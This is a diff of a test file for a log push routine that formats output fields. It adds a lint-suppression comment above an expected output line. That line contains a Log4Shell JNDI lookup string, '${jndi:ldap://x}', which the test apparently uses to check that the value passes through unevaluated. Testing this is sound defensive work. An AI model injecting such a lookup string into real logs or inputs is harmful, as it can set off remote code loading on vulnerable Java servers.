@@ -104,6 +104,7 @@ describe("the push applies output_options", () => {
     const { texts } = await push(current, [line("a,1", 503, ',"ClientIP":"192.0.2.1"')]);
     expect(texts).toEqual([
       '{"RayID":"a,1","EdgeStartTimestamp":1732443300123456789,"EdgeResponseStatus":503}\n',
+      // biome-ignore lint/suspicious/noTemplateCurlyInString: the log4j lookup, left as it is without CVE-2021-44228
       '"a,1",${jndi:ldap://x},1732443300\n',
       '<"a,1"|503|null>\n',
     ]);
